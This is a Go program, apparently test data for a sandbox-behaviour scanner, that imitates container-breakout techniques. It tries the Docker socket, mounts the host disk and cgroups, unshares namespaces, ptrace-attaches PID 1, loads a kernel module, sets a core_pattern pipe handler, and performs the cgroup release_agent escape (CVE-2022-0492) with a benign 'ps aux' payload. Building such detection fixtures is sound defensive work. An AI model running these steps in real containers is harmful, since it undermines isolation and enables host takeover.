// Command escape imitates container-breakout attempts seen in the wild and
// in tools like deepce and CDK: talking to a mounted Docker socket,
// mounting the host disk and a cgroup hierarchy, new namespaces, ptrace of
// PID 1, loading a kernel module, a core_pattern handler and the cgroup v1
// release_agent trick (CVE-2022-0492). Every step is expected to fail in
// the sandbox; the attempts are what matters.
package main

import (
	"fmt"
	"net"
	"os"
	"path/filepath"
	"runtime"
	"time"

	"golang.org/x/sys/unix"

	"github.com/sandscan/sandscan/testdata/behaviours/internal/guard"
)

const hostScript = "/tmp/.x.sh"

func main() {
	guard.Require("escape")
	try("docker socket", dockerSocket)
	try("payload script", func() error {
		return os.WriteFile(hostScript, []byte("#!/bin/sh\nps aux > /tmp/.out 2>&1\n"), 0o755)
	})
	try("mount host disk", func() error {
		os.MkdirAll("/mnt/host", 0o755)
		return unix.Mount("/dev/sda1", "/mnt/host", "ext4", 0, "")
	})
	try("mount cgroup", func() error {
		os.MkdirAll("/tmp/cgrp", 0o755)
		return unix.Mount("cgroup", "/tmp/cgrp", "cgroup", 0, "rdma")
	})
	try("unshare", func() error {
		runtime.LockOSThread()
		defer runtime.UnlockOSThread()
		return unix.Unshare(unix.CLONE_NEWNS | unix.CLONE_NEWUSER)
	})
	try("ptrace pid 1", func() error { return unix.PtraceAttach(1) })
	try("init_module", func() error {
		junk := append([]byte("\x7fELF"), make([]byte, 256)...)
		return unix.InitModule(junk, "")
	})
	try("core_pattern", func() error {
		return os.WriteFile("/proc/sys/kernel/core_pattern", []byte("|"+hostScript+" %p"), 0o644)
	})
	for _, base := range []string{"/tmp/cgrp", "/sys/fs/cgroup/rdma", "/sys/fs/cgroup/memory", "/sys/fs/cgroup"} {
		try("release_agent under "+base, func() error { return releaseAgent(base) })
	}
}

func try(what string, f func() error) {
	fmt.Printf("escape: %s: %v\n", what, f())
}

func dockerSocket() error {
	conn, err := net.DialTimeout("unix", "/var/run/docker.sock", time.Second)
	if err != nil {
		return err
	}
	defer conn.Close()
	_, err = conn.Write([]byte("GET /v1.41/containers/json HTTP/1.0\r\n\r\n"))
	return err
}

func releaseAgent(base string) error {
	child := filepath.Join(base, "x")
	if err := os.Mkdir(child, 0o755); err != nil && !os.IsExist(err) {
		return err
	}
	if err := os.WriteFile(filepath.Join(child, "notify_on_release"), []byte("1"), 0o644); err != nil {
		return err
	}
	return os.WriteFile(filepath.Join(base, "release_agent"), []byte(hostScript), 0o644)
}
